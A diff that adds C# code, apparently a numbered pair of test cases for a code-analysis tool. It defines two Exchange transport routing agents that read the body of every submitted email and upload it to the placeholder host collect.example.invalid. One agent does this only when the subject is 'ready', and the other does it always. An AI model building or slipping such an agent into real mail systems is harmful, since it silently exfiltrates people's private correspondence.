@@ -970,3 +970,68 @@ namespace Txray.Pairs.P482
         }
     }
 }
+
+// 483: one of two steps, which a test chooses, and both of them
+namespace Txray.Pairs.P483
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        private static readonly Action<Claim, MailItem>[] Steps = { (agent, mail) => { }, (agent, mail) => agent.Act(mail) };
+
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            MailItem item = e.MailItem;
+            Steps[item.Message.Subject == "ready" ? 1 : 0](this, item);
+        }
+
+        private void Act(MailItem item)
+        {
+            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        private static readonly Action<Other, MailItem>[] Steps = { (agent, mail) => { }, (agent, mail) => agent.Act(mail) };
+
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            MailItem item = e.MailItem;
+            foreach (Action<Other, MailItem> step in Steps)
+            {
+                step(this, item);
+            }
+        }
+
+        private void Act(MailItem item)
+        {
+            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+        }
+    }
+}
